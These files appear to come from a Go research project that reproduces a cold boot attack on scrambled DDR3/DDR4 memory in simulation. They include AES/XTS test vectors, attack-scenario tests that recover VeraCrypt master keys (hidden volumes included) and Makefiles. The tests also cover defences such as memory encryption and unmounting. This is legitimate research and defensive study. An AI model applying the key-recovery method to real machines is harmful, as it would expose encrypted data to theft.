// nothing regardless of length.
func (s *CTR) XORKeyStream(dst, src []byte, ctr uint64) {
	if len(dst) != len(src) {
		panic("aes: CTR XORKeyStream length mismatch")
	}
	if len(src)%BlockSize != 0 {
		panic("aes: CTR XORKeyStream length must be a multiple of 16")
	}
	var block, ks [BlockSize]byte
	binary.BigEndian.PutUint64(block[0:8], s.nonce)
	for off := 0; off < len(src); off += BlockSize {
		binary.BigEndian.PutUint64(block[8:16], ctr)
		s.c.Encrypt(ks[:], block[:])
		bitutil.XORBlock16(dst[off:], src[off:], ks[:])
		ctr++
	}
}
