package aes

import (
	"bytes"
	stdaes "crypto/aes"
	"crypto/cipher"
	"encoding/binary"
	"encoding/hex"
	"math/rand"
	"testing"
)

func TestCTRNISTVector(t *testing.T) {
	// NIST SP 800-38A F.5.1 (CTR-AES128.Encrypt). The NIST initial counter
	// block f0f1...feff maps onto our nonce||counter split.
	ctr, err := NewCTR(unhex(t, "2b7e151628aed2a6abf7158809cf4f3c"), 0xf0f1f2f3f4f5f6f7)
	if err != nil {
		t.Fatal(err)
	}
	pt := unhex(t, "6bc1bee22e409f96e93d7e117393172a"+
		"ae2d8a571e03ac9c9eb76fac45af8e51"+
		"30c81c46a35ce411e5fbc1191a0a52ef"+
		"f69f2445df4f9b17ad2b417be66c3710")
	want := "874d6191b620e3261bef6864990db6ce" +
		"9806f66b7970fdff8617187bb9fffdff" +
		"5ae4df3edbd5d35e5b4f09020db03eab" +
		"1e031dda2fbe03d1792170a0f3009cee"
	got := make([]byte, len(pt))
	ctr.XORKeyStream(got, pt, 0xf8f9fafbfcfdfeff)
	if hex.EncodeToString(got) != want {
		t.Errorf("CTR output mismatch:\n got %x\nwant %s", got, want)
	}
}

func TestCTRMatchesStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	for trial := 0; trial < 20; trial++ {
		key := make([]byte, 32)
		rng.Read(key)
		nonce := rng.Uint64()
		startCtr := uint64(rng.Uint32()) // avoid 64-bit counter overflow mid-stream
		ours, err := NewCTR(key, nonce)
		if err != nil {
			t.Fatal(err)
		}
		block, _ := stdaes.NewCipher(key)
		iv := make([]byte, 16)
		binary.BigEndian.PutUint64(iv[:8], nonce)
		binary.BigEndian.PutUint64(iv[8:], startCtr)
		ref := cipher.NewCTR(block, iv)

		pt := make([]byte, 256)
		rng.Read(pt)
		a := make([]byte, len(pt))
		b := make([]byte, len(pt))
		ours.XORKeyStream(a, pt, startCtr)
		ref.XORKeyStream(b, pt)
		if !bytes.Equal(a, b) {
			t.Fatalf("CTR mismatch vs stdlib on trial %d", trial)
		}
	}
}

func TestCTRRoundTrip(t *testing.T) {
	ctr, _ := NewCTR(make([]byte, 16), 42)
	pt := []byte("sixteen byte msg sixteen byte ms")
	enc := make([]byte, len(pt))
	ctr.XORKeyStream(enc, pt, 100)
	dec := make([]byte, len(pt))
	ctr.XORKeyStream(dec, enc, 100)
	if !bytes.Equal(dec, pt) {
		t.Error("CTR round-trip failed")
	}
	if bytes.Equal(enc, pt) {
		t.Error("CTR produced identity")
	}
}

func TestCTRDistinctCountersDistinctKeystream(t *testing.T) {
	ctr, _ := NewCTR(make([]byte, 16), 0)
	a := make([]byte, 64)
	b := make([]byte, 64)
	ctr.Keystream(a, 0)
	ctr.Keystream(b, 4)
	if bytes.Equal(a, b) {
		t.Error("different counters produced identical keystream")
	}
	// Overlapping counter ranges must agree block-wise: blocks 4..7 of a
	// stream starting at 0 vs blocks 0..3 of a stream starting at 4.
	c := make([]byte, 128)
	ctr.Keystream(c, 0)
	if !bytes.Equal(c[64:], b) {
		t.Error("keystream not a pure function of counter")
	}
}

func TestCTRPanicsOnPartialBlock(t *testing.T) {
	ctr, _ := NewCTR(make([]byte, 16), 0)
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic for non-multiple-of-16 keystream")
		}
	}()
	ctr.Keystream(make([]byte, 15), 0)
}

func TestXTSIEEEVector1(t *testing.T) {
	// IEEE P1619 Vector 1: XTS-AES-128, both keys zero, sector 0,
	// 32 zero bytes.
	key := make([]byte, 32)
	x, err := NewXTS(key)
	if err != nil {
		t.Fatal(err)
	}
	pt := make([]byte, 32)
	ct := make([]byte, 32)
	x.EncryptSector(ct, pt, 0)
	want := "917cf69ebd68b2ec9b9fe9a3eadda692cd43d2f59598ed858c02c2652fbf922e"
	if hex.EncodeToString(ct) != want {
		t.Errorf("XTS vector 1 mismatch:\n got %x\nwant %s", ct, want)
	}
}

func TestXTSIEEEVector2(t *testing.T) {
	// IEEE P1619 Vector 2: key1 = 11..11, key2 = 22..22, sector 0x3333333333,
	// 32 bytes of 0x44.
	key := append(bytes.Repeat([]byte{0x11}, 16), bytes.Repeat([]byte{0x22}, 16)...)
	x, err := NewXTS(key)
	if err != nil {
		t.Fatal(err)
	}
	pt := bytes.Repeat([]byte{0x44}, 32)
	ct := make([]byte, 32)
	x.EncryptSector(ct, pt, 0x3333333333)
	want := "c454185e6a16936e39334038acef838bfb186fff7480adc4289382ecd6d394f0"
	if hex.EncodeToString(ct) != want {
		t.Errorf("XTS vector 2 mismatch:\n got %x\nwant %s", ct, want)
	}
}

func TestXTSRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(31))
	key := make([]byte, 64) // XTS-AES-256
	rng.Read(key)
	x, err := NewXTS(key)
	if err != nil {
		t.Fatal(err)
	}
	for _, size := range []int{16, 512, 4096} {
		pt := make([]byte, size)
		rng.Read(pt)
		ct := make([]byte, size)
		x.EncryptSector(ct, pt, 7)
		if bytes.Equal(ct, pt) {
			t.Fatal("XTS identity")
		}
		back := make([]byte, size)
		x.DecryptSector(back, ct, 7)
		if !bytes.Equal(back, pt) {
			t.Fatalf("XTS round-trip failed for size %d", size)
		}
	}
}

func TestXTSSectorTweakMatters(t *testing.T) {
	key := make([]byte, 64)
	x, _ := NewXTS(key)
	pt := make([]byte, 512)
	a := make([]byte, 512)
	b := make([]byte, 512)
	x.EncryptSector(a, pt, 1)
	x.EncryptSector(b, pt, 2)
	if bytes.Equal(a, b) {
		t.Error("same ciphertext for different sectors")
	}
}

func TestXTSRejectsBadKeyLengths(t *testing.T) {
	if _, err := NewXTS(make([]byte, 48)); err == nil {
		t.Error("expected error for 48-byte XTS key")
	}
}

func TestXTSSchedulesExposed(t *testing.T) {
	key := make([]byte, 64)
	for i := range key {
		key[i] = byte(i)
	}
	x, _ := NewXTS(key)
	// Both 240-byte schedules begin with their half of the master key —
	// this is what the cold boot attack recovers from memory.
	dataSched := WordsToBytes(x.DataCipher().Schedule())
	tweakSched := WordsToBytes(x.TweakCipher().Schedule())
	if !bytes.Equal(dataSched[:32], key[:32]) || !bytes.Equal(tweakSched[:32], key[32:]) {
		t.Error("schedule heads do not contain the master key halves")
	}
}

func BenchmarkEncryptBlock(b *testing.B) {
	c, _ := NewCipher(make([]byte, 32))
	buf := make([]byte, 16)
	b.SetBytes(16)
	for i := 0; i < b.N; i++ {
		c.Encrypt(buf, buf)
	}
}

func BenchmarkXTSSector4K(b *testing.B) {
	x, _ := NewXTS(make([]byte, 64))
	buf := make([]byte, 4096)
	b.SetBytes(4096)
	for i := 0; i < b.N; i++ {
		x.EncryptSector(buf, buf, uint64(i))
	}
}
