package coldboot

import (
	"bytes"
	"testing"
	"time"

	"coldboot/internal/core"
	"coldboot/internal/machine"
	"coldboot/internal/veracrypt"
	"coldboot/internal/workload"
)

// TestHeadlineAttack is the paper's §III-C result end to end: a frozen DDR4
// DIMM pulled from a Skylake machine with a mounted VeraCrypt volume,
// dumped in a second scrambled Skylake machine, yields the XTS master keys
// and unlocks the volume without the password.
func TestHeadlineAttack(t *testing.T) {
	out, err := Run(Scenario{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if out.Retention < 0.95 {
		t.Errorf("retention %f unexpectedly low for -25C/2s", out.Retention)
	}
	if out.Stride != 4096 {
		t.Errorf("stride %d, want 4096", out.Stride)
	}
	if !out.VolumeUnlocked {
		t.Fatalf("volume not unlocked: %d masters recovered, coverage %f",
			len(out.RecoveredMasters), out.Coverage)
	}
	if string(out.SecretRecovered) != SecretPayload() {
		t.Errorf("secret sector wrong: %q", out.SecretRecovered)
	}
}

func TestSameMachineRebootAttack(t *testing.T) {
	// §III-B: certain motherboards allow rebooting into the dump directly.
	out, err := Run(Scenario{Seed: 2, SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if out.Retention != 1.0 {
		t.Errorf("warm reboot retention = %f", out.Retention)
	}
	if !out.VolumeUnlocked {
		t.Fatal("same-machine attack failed")
	}
	if out.VictimSeed == out.AttackerSeed {
		t.Error("reboot did not reseed the scrambler")
	}
}

func TestAttackOnI5_6400(t *testing.T) {
	// The other Skylake system from Table I.
	out, err := Run(Scenario{Seed: 3, CPU: "i5-6400", SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if !out.VolumeUnlocked {
		t.Fatal("attack failed on i5-6400")
	}
}

func TestDualChannelAttack(t *testing.T) {
	out, err := Run(Scenario{Seed: 4, Channels: 2, SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	// Dual-channel interleaving doubles the apparent key pool: the stride
	// inference must discover 2*4096.
	if out.Stride != 8192 {
		t.Errorf("dual-channel stride = %d, want 8192", out.Stride)
	}
	if !out.VolumeUnlocked {
		t.Fatal("dual-channel attack failed")
	}
}

func TestColdTransferWithDecayAttack(t *testing.T) {
	// The paper's own freeze conditions: -25C from an upright gas duster,
	// with a fast (sub-second) DIMM swap. Decay is measurable and the
	// repair machinery is exercised. (Success at these conditions is
	// stochastic at ~92% across seeds; this seed is deterministic.)
	out, err := Run(Scenario{Seed: 4, FreezeTempC: -25, TransferTime: 500 * time.Millisecond, RepairFlips: 1})
	if err != nil {
		t.Fatal(err)
	}
	if out.Retention > 0.9999 {
		t.Errorf("expected measurable decay, retention = %f", out.Retention)
	}
	if !out.VolumeUnlocked {
		t.Fatalf("attack failed under decay (retention %f)", out.Retention)
	}
}

func TestDecaySuccessEnvelope(t *testing.T) {
	// Quantify "resilient to modest bit flips": at ~1.6% flipped bits
	// (-25C, 2s transfer) key mining still covers most address classes,
	// but no anchor window survives intact enough to yield exact master
	// keys — the attack's honest failure boundary.
	out, err := Run(Scenario{Seed: 5, FreezeTempC: -25, TransferTime: 2 * time.Second, RepairFlips: 1})
	if err != nil {
		t.Fatal(err)
	}
	if out.Retention > 0.99 {
		t.Errorf("retention %f; the harsh-decay case is not harsh", out.Retention)
	}
	if out.VolumeUnlocked {
		t.Error("attack succeeded at ~1.6% decay; tolerances are implausibly generous")
	}
}

func TestWarmTransferDestroysData(t *testing.T) {
	// No freeze: at room temperature the bits rot during a slow transfer
	// and the attack collapses — the reason the paper's Figure 2 freeze
	// step exists.
	out, err := Run(Scenario{Seed: 6, FreezeTempC: 20, TransferTime: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if out.Retention > 0.8 {
		t.Errorf("warm retention = %f, expected heavy loss", out.Retention)
	}
	if out.VolumeUnlocked {
		t.Error("attack succeeded despite a warm 10s transfer; decay model too forgiving")
	}
}

func TestEncryptedMemoryDefeatsAttack(t *testing.T) {
	// Section IV's defense: the same attack against ChaCha8- or
	// AES-CTR-encrypted memory recovers nothing.
	for _, prot := range []MemoryProtection{EncryptedChaCha8, EncryptedAES128} {
		out, err := Run(Scenario{Seed: 7, Protection: prot, SameMachineReboot: true})
		if err != nil {
			t.Fatal(err)
		}
		if out.VolumeUnlocked || len(out.RecoveredMasters) != 0 {
			t.Errorf("protection %d: attack succeeded against encrypted memory", prot)
		}
	}
}

func TestGroundStateProfilingExtractsKeys(t *testing.T) {
	// The paper's alternative analysis technique (§III-A): instead of
	// filling memory with zeros via the FPGA, let the DRAM decay fully to
	// its ground state, profile that pattern with the scrambler off, then
	// boot scrambled and read the ground state back through the scrambler.
	// XORing the two dumps yields the keystream for every block — with no
	// mid-experiment decay worries, since ground state is the fixed point.
	cpu, _ := machine.CPUByName("i5-6600K")
	m, err := machine.New(machine.Config{CPU: cpu, DIMMBytes: 1 << 20, ScramblerOn: false, BIOSEntropy: 40})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Boot(); err != nil {
		t.Fatal(err)
	}
	m.PowerOff()
	m.Controller().DIMM(0).FullyDecay()

	// Profile pass: scrambler off.
	if err := m.Boot(); err != nil {
		t.Fatal(err)
	}
	profile, err := m.Dump()
	if err != nil {
		t.Fatal(err)
	}
	ground := make([]byte, m.MemSize())
	m.Controller().DIMM(0).GroundState(0, ground)
	if !bytes.Equal(profile, ground) {
		t.Fatal("profile dump is not the ground state")
	}

	// Scrambled pass: BIOS flips the knob, warm reboot preserves contents.
	m.Controller().SetScramblerEnabled(true)
	if err := m.Boot(); err != nil {
		t.Fatal(err)
	}
	view, err := m.Dump()
	if err != nil {
		t.Fatal(err)
	}

	// XOR of the passes is the keystream; every sampled block must match
	// the controller's true key and satisfy the litmus invariants.
	scr := m.Controller().Scrambler(0)
	for b := 0; b < len(view)/64; b += 97 {
		key := make([]byte, 64)
		for i := range key {
			key[i] = view[b*64+i] ^ profile[b*64+i]
		}
		loc := m.Controller().Mapping().Translate(uint64(b * 64))
		if !bytes.Equal(key, scr.KeyAt(loc.DeviceOff)) {
			t.Fatalf("block %d: extracted key differs from true keystream", b)
		}
		if !core.PassesKeyLitmus(key, 0) {
			t.Fatalf("block %d: extracted key fails litmus", b)
		}
	}
}

func TestCrossGenerationAttackFails(t *testing.T) {
	// The paper's attack model: "the attacker must use a CPU that is the
	// same generation as the one being attacked" — a SandyBridge dumping
	// machine maps addresses differently and the attack falls apart.
	out, err := Run(Scenario{Seed: 9, AttackerCPU: "i5-2540M"})
	if err != nil {
		t.Fatal(err)
	}
	if out.VolumeUnlocked {
		t.Error("cross-generation attack succeeded; address-map modeling broken")
	}
}

func TestUnmountDefeatsAttack(t *testing.T) {
	// §II-B's mitigation: unmounting erases the schedules; a machine
	// seized afterwards yields nothing. Built directly on the substrate
	// packages for precise control.
	cpu, _ := machine.CPUByName("i5-6600K")
	m, err := machine.New(machine.Config{CPU: cpu, DIMMBytes: 2 << 20, ScramblerOn: true, BIOSEntropy: 10})
	if err != nil {
		t.Fatal(err)
	}
	m.Boot()
	mem := make([]byte, m.MemSize())
	workload.Fill(mem, 11, workload.LightSystem)
	m.Write(0, mem)
	salt := make([]byte, veracrypt.SaltSize)
	vol, _ := veracrypt.Create([]byte("pw"), 32*veracrypt.SectorSize, salt, nil)
	mounted, err := vol.Mount([]byte("pw"), m, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if err := mounted.Unmount(); err != nil {
		t.Fatal(err)
	}
	m.Boot() // reseed + dump
	dump, _ := m.Dump()
	keys, err := AttackDump(dump, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(keys) != 0 {
		t.Error("attack recovered keys after unmount")
	}
}

func TestScenarioUnknownCPU(t *testing.T) {
	if _, err := Run(Scenario{CPU: "i11-9999"}); err == nil {
		t.Error("unknown CPU accepted")
	}
	if _, err := Run(Scenario{AttackerCPU: "i11-9999"}); err == nil {
		t.Error("unknown attacker CPU accepted")
	}
}

func TestOutcomeGroundTruthMatches(t *testing.T) {
	out, err := Run(Scenario{Seed: 12, SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	// The recovered masters must include both halves of the true XTS key.
	foundHalves := 0
	for _, m := range out.RecoveredMasters {
		if bytes.Equal(m, out.TrueMasters[:32]) || bytes.Equal(m, out.TrueMasters[32:]) {
			foundHalves++
		}
	}
	if foundHalves < 2 {
		t.Errorf("recovered %d true key halves, want 2", foundHalves)
	}
}

func TestDDR3BaselineAttack(t *testing.T) {
	// The prior-art DDR3 attack end to end on a SandyBridge machine:
	// 16-key frequency analysis, full descramble, Halderman scan, unlock.
	out, err := Run(Scenario{Seed: 20, CPU: "i5-2540M", SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if out.MinedKeys != 16 {
		t.Errorf("DDR3 attack mined %d keys, want 16", out.MinedKeys)
	}
	if !out.VolumeUnlocked {
		t.Fatal("DDR3 baseline attack failed")
	}
}

func TestDDR3AttackWithDIMMTransfer(t *testing.T) {
	out, err := Run(Scenario{Seed: 21, CPU: "i5-2430M", FreezeTempC: -50, TransferTime: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	// The Halderman scan's tolerance absorbs light decay.
	if !out.VolumeUnlocked {
		t.Fatalf("DDR3 transfer attack failed (retention %f)", out.Retention)
	}
}

func TestIvyBridgeAttack(t *testing.T) {
	// The third Table I generation.
	out, err := Run(Scenario{Seed: 22, CPU: "i7-3540M", SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if !out.VolumeUnlocked {
		t.Fatal("IvyBridge DDR3 attack failed")
	}
}

func TestSeedReuseBIOSTrivialAttack(t *testing.T) {
	// §III-B observation 2: some vendor BIOSes reuse the scrambler seed.
	// A reboot then reads the old memory back descrambled, and the classic
	// Halderman scan recovers the keys with no scrambler analysis at all.
	out, err := Run(Scenario{Seed: 30, SeedReuseBIOS: true, SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if out.VictimSeed != out.AttackerSeed {
		t.Fatal("seed-reuse BIOS changed its seed")
	}
	if !out.VolumeUnlocked {
		t.Fatal("trivial seed-reuse attack failed")
	}
}

func TestNVDIMMNeedsNoFreezing(t *testing.T) {
	// §III-D/V: non-volatile DIMMs keep their contents across power loss
	// with NO cooling — a warm ten-minute transfer loses nothing and the
	// attack proceeds as if the machine never lost power.
	out, err := Run(Scenario{Seed: 31, NVDIMM: true, FreezeTempC: 20, TransferTime: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if out.Retention != 1.0 {
		t.Errorf("NVDIMM retention = %f, want 1.0", out.Retention)
	}
	if !out.VolumeUnlocked {
		t.Fatal("NVDIMM attack failed")
	}
}

func TestNVDIMMPlusEncryptionIsSafe(t *testing.T) {
	// The paper's closing argument: NVDIMMs make encryption "even more
	// crucial" — and it works there too.
	out, err := Run(Scenario{Seed: 32, NVDIMM: true, Protection: EncryptedChaCha8,
		FreezeTempC: 20, TransferTime: 10 * time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if out.VolumeUnlocked {
		t.Error("attack beat encrypted NVDIMM memory")
	}
}

func TestCPURegisterKeysDefeatAttack(t *testing.T) {
	// §II-B: TRESOR/Loop-Amnesia keep keys out of DRAM entirely; a cold
	// boot dump contains nothing to find.
	out, err := Run(Scenario{Seed: 33, KeysInCPURegisters: true, SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if out.VolumeUnlocked || len(out.RecoveredMasters) != 0 {
		t.Errorf("attack recovered %d keys despite register-only storage", len(out.RecoveredMasters))
	}
}

func TestScramblerOffHaldermanScanWins(t *testing.T) {
	// With scrambling disabled the raw-dump Halderman scan recovers the
	// keys directly (the pre-DDR3 world of the 2008 paper).
	out, err := Run(Scenario{Seed: 34, Protection: ScramblerOff, SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if !out.VolumeUnlocked {
		t.Fatal("Halderman scan failed on unscrambled dump")
	}
}

func TestCaptureAnalyzeSeparation(t *testing.T) {
	// The offline workflow: Capture produces the raw double-scrambled dump
	// (no analysis), AttackDump recovers the keys from it later.
	dump, out, err := Capture(Scenario{Seed: 50, SameMachineReboot: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(out.RecoveredMasters) != 0 || out.VolumeUnlocked {
		t.Error("Capture performed analysis")
	}
	if len(dump) != 2<<20 {
		t.Errorf("dump size %d", len(dump))
	}
	keys, err := AttackDump(dump, 0)
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for _, k := range keys {
		found[string(k)] = true
	}
	if !found[string(out.TrueMasters[:32])] || !found[string(out.TrueMasters[32:])] {
		t.Error("offline analysis did not recover the true masters")
	}
}

func TestColdBootDefeatsHiddenVolumeDeniability(t *testing.T) {
	// Full-stack version of the hidden-volume finding: a user has a
	// TrueCrypt-style hidden volume mounted when the machine is seized.
	// The cold boot attack recovers the hidden volume's master keys from
	// the scrambled dump and locates the deniable region — the existence
	// of the hidden data is no longer deniable.
	cpu, _ := machine.CPUByName("i5-6600K")
	m, err := machine.New(machine.Config{CPU: cpu, DIMMBytes: 2 << 20, ScramblerOn: true, BIOSEntropy: 60})
	if err != nil {
		t.Fatal(err)
	}
	m.Boot()
	mem := make([]byte, m.MemSize())
	workload.Fill(mem, 61, workload.LightSystem)
	m.Write(0, mem)

	salt := make([]byte, veracrypt.SaltSize)
	copy(salt, "deniability test salt")
	vol, err := veracrypt.CreateHidden([]byte("decoy-password"), []byte("real-password"),
		128*veracrypt.SectorSize, 32*veracrypt.SectorSize, salt)
	if err != nil {
		t.Fatal(err)
	}
	hidden, err := vol.MountHidden([]byte("real-password"), m, 1<<20+512)
	if err != nil {
		t.Fatal(err)
	}
	secret := make([]byte, veracrypt.SectorSize)
	copy(secret, "deniable secrets, recovered via cold boot")
	hidden.WriteSector(2, secret)

	m.Boot() // reseed; scrambled dump
	dump, err := m.Dump()
	if err != nil {
		t.Fatal(err)
	}
	keys, err := AttackDump(dump, 0)
	if err != nil {
		t.Fatal(err)
	}
	recovered, err := vol.MountWithRecoveredKeys(keys, nil, 0)
	if err != nil {
		t.Fatalf("hidden volume not unlocked from dump: %v", err)
	}
	if recovered.Sectors() != 32 {
		t.Errorf("recovered region %d sectors; want the hidden 32", recovered.Sectors())
	}
	got := make([]byte, veracrypt.SectorSize)
	recovered.ReadSector(2, got)
	if !bytes.Equal(got, secret) {
		t.Error("hidden secret not recovered")
	}
}

func TestGroundProfileExtendsDecayEnvelope(t *testing.T) {
	// §III-A profiling at system level: at -25C with a 1s transfer the
	// blind attack is marginal (see the probe data in EXPERIMENTS.md);
	// with the ground-state profile the asymmetric-decay repair gets the
	// same seed through.
	out, err := Run(Scenario{Seed: 1, FreezeTempC: -25, TransferTime: time.Second,
		RepairFlips: 1, GroundProfile: true})
	if err != nil {
		t.Fatal(err)
	}
	if out.GroundDump == nil {
		t.Fatal("no ground profile captured")
	}
	if !out.VolumeUnlocked {
		t.Fatalf("attack with ground profile failed (retention %f)", out.Retention)
	}
}
