# Build/verify targets for the cold boot scrambler reproduction.
#
#   make test           tier-1 gate: build everything, run every test
#   make race           vet + race-detector pass over every package (the
#                       staged pipeline, campaign pool, and keyfind pool
#                       all run goroutines)
#   make lint           project static-analysis suite (cmd/coldbootlint):
#                       hot-path XOR kernels, context threading, read-only
#                       KeyAt results, math/rand bans, silent-library and
#                       alloc-in-hot-loop checks, plus the PR 8 secret
#                       hygiene rules (keyflow taint, lockguard, goroleak)
#                       and stale-suppression reporting
#   make lint-json      same suite, machine-readable: writes lint.json
#                       (uploaded as a CI artifact)
#   make lint-fixtures  fast self-test of the lint suite against its
#                       positive/negative fixture trees (skips the
#                       whole-module self-scan)
#   make fmt            fail if any file needs gofmt
#   make check          umbrella gate: build + tests + vet + race + lint +
#                       fmt, the whole pre-merge checklist in one target
#   make fuzz-smoke     run every fuzz target for 10s each (corpus seeds
#                       under */testdata/fuzz are always run by plain
#                       `go test` too)
#   make serve-smoke    build coldbootd, boot it on a random port, push a
#                       scrambled+decayed fixture dump through the HTTP
#                       API end to end, and require a clean SIGTERM drain
#   make crash-smoke    build coldbootd, SIGKILL it mid-hunt, restart it
#                       against the same data dir, and require the WAL
#                       replay to resume every submitted job and recover
#                       the planted masters
#   make bench          run the paper-figure benchmarks once
#   make bench-hotpath  regenerate BENCH_hotpath.json (attack hot-path
#                       kernels, machine-readable; commit the result so the
#                       perf trajectory is tracked across PRs)
#   make bench-guard    run the instrumented-hot-path benchmarks once and
#                       fail if any reports allocs/op > 0 — the Nop tracer
#                       fast path must stay allocation-free (PR 5 contract) —
#                       then re-run the end-to-end attack benchmark and fail
#                       if it regresses past the throughput floor / alloc
#                       ceiling recorded in BENCH_hotpath.json

GO ?= go

.PHONY: test race lint lint-json lint-fixtures fmt check fuzz-smoke serve-smoke crash-smoke bench bench-hotpath bench-guard all

all: check

test:
	$(GO) build ./...
	$(GO) test ./...

race:
	$(GO) vet ./...
	$(GO) test -race ./...

lint:
	$(GO) run ./cmd/coldbootlint ./...

# lint.json is the CI artifact: an empty array on a clean tree, one
# {file, line, rule, message} object per finding otherwise. The target
# fails exactly when plain lint would, but the artifact is written either
# way so a red run still ships its findings.
lint-json:
	@$(GO) run ./cmd/coldbootlint -json ./... > lint.json; \
	status=$$?; cat lint.json; exit $$status

lint-fixtures:
	$(GO) test -short ./internal/lint

fmt:
	@out=$$(gofmt -l .); if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; fi

check: test race lint fmt

fuzz-smoke:
	$(GO) test ./internal/dumpfile -run '^$$' -fuzz '^FuzzRead$$' -fuzztime 10s
	$(GO) test ./internal/core -run '^$$' -fuzz '^FuzzKeyLitmus$$' -fuzztime 10s
	$(GO) test ./internal/core -run '^$$' -fuzz '^FuzzAESLitmus$$' -fuzztime 10s
	$(GO) test ./internal/core -run '^$$' -fuzz '^FuzzMineKeys$$' -fuzztime 10s
	$(GO) test ./internal/format/luks2 -run '^$$' -fuzz '^FuzzParseHeader$$' -fuzztime 10s
	$(GO) test ./internal/wal -run '^$$' -fuzz '^FuzzReplay$$' -fuzztime 10s

serve-smoke:
	$(GO) run ./cmd/servesmoke

crash-smoke:
	$(GO) run ./cmd/crashsmoke

bench:
	$(GO) test -bench . -benchtime 1x -run '^$$' .

bench-hotpath:
	$(GO) run ./cmd/encbench -hotpath BENCH_hotpath.json

# The guarded benchmarks drive the full telemetry hook surface (spans,
# counters, histograms, progress) through the Nop tracer inside the scan
# hot loops; a single iteration is enough because allocs/op must be
# exactly zero, not merely small.
bench-guard:
	@set -e; \
	for spec in \
		"./internal/obs ^BenchmarkNopOverhead$$|^BenchmarkCollectorObserve$$" \
		"./internal/keyfind ^BenchmarkScanChunkNop$$"; do \
		set -- $$spec; pkg=$$1; pat=$$2; \
		echo "bench-guard: $$pkg $$pat"; \
		out=$$($(GO) test "$$pkg" -run '^$$' -bench "$$pat" -benchtime 1x -benchmem) || { echo "$$out"; exit 1; }; \
		echo "$$out"; \
		echo "$$out" | grep -q '^Benchmark' || { echo "bench-guard: no benchmarks matched $$pat in $$pkg"; exit 1; }; \
		echo "$$out" | awk '/allocs\/op/ { for (i = 2; i <= NF; i++) if ($$i == "allocs/op" && $$(i-1) + 0 != 0) { print "bench-guard: " $$1 " allocates: " $$(i-1) " allocs/op"; bad = 1 } } END { exit bad }'; \
	done; \
	echo "bench-guard: all hot-path benchmarks allocation-free"
	$(GO) run ./cmd/encbench -guard BENCH_hotpath.json
