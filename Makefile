# Build/verify targets for the cold boot scrambler reproduction.
#
#   make test           tier-1 gate: build everything, run every test
#   make race           vet + race-detector pass over the worker-pool
#                       packages (the parallel attack scan and keyfind pool)
#   make bench          run the paper-figure benchmarks once
#   make bench-hotpath  regenerate BENCH_hotpath.json (attack hot-path
#                       kernels, machine-readable; commit the result so the
#                       perf trajectory is tracked across PRs)

GO ?= go

.PHONY: test race bench bench-hotpath all

all: test race

test:
	$(GO) build ./...
	$(GO) test ./...

race:
	$(GO) vet ./...
	$(GO) test -race ./internal/core/... ./internal/keyfind/...

bench:
	$(GO) test -bench . -benchtime 1x -run '^$$' .

bench-hotpath:
	$(GO) run ./cmd/encbench -hotpath BENCH_hotpath.json
