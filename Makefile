# Build/verify targets for the cold boot scrambler reproduction.
#
#   make test           tier-1 gate: build everything, run every test
#   make race           vet + race-detector pass over every package (the
#                       staged pipeline, campaign pool, and keyfind pool
#                       all run goroutines)
#   make check          umbrella gate: build + vet + tests + race, the
#                       whole pre-merge checklist in one target
#   make bench          run the paper-figure benchmarks once
#   make bench-hotpath  regenerate BENCH_hotpath.json (attack hot-path
#                       kernels, machine-readable; commit the result so the
#                       perf trajectory is tracked across PRs)

GO ?= go

.PHONY: test race check bench bench-hotpath all

all: check

test:
	$(GO) build ./...
	$(GO) test ./...

race:
	$(GO) vet ./...
	$(GO) test -race ./...

check: test race

bench:
	$(GO) test -bench . -benchtime 1x -run '^$$' .

bench-hotpath:
	$(GO) run ./cmd/encbench -hotpath BENCH_hotpath.json
