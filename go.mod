module coldboot

go 1.22
